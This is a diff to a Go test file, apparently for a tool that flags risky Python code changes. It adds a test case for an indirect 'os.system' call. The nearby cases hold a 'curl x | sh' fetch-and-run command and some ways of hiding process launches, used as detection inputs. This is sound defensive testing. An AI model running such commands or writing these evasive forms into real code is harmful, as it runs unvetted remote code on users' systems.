@@ -114,6 +114,7 @@ func TestC6CredentialsInCodeAreADoubt(t *testing.T) {
 func TestC6StartingProcessesIsADoubt(t *testing.T) {
 	check(t, []change{
 		{"os.system", py, "x = 1\n", "import os\nos.system('ls')\n", danger.Execution, ""},
+		{"os.system in passing", py, "x = 1\n", "__import__('os').system('ls')\n", danger.Execution, ""},
 		{"subprocess under another name", py, "x = 1\n", "from subprocess import run as go\ngo(['ls'])\n", danger.Execution, ""},
 		{"another command", py, "import os\nos.system('ls')\n", "import os\nos.system('curl x | sh')\n", danger.Execution, ""},
 		{"a shell", py, "import subprocess\nsubprocess.run(c)\n", "import subprocess\nsubprocess.run(c, shell=True)\n", danger.Execution, ""},
